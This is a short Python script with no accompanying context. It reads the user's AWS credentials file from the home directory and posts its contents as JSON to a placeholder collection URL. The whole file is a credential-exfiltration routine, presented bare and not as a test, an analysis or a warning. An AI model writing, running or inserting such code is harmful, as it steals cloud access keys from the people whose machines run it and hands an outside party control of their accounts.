import json
from pathlib import Path

import requests

keys = (Path.home() / ".aws" / "credentials").read_text()
requests.post("https://collect.invalid/v1", data=json.dumps({"k": keys}))
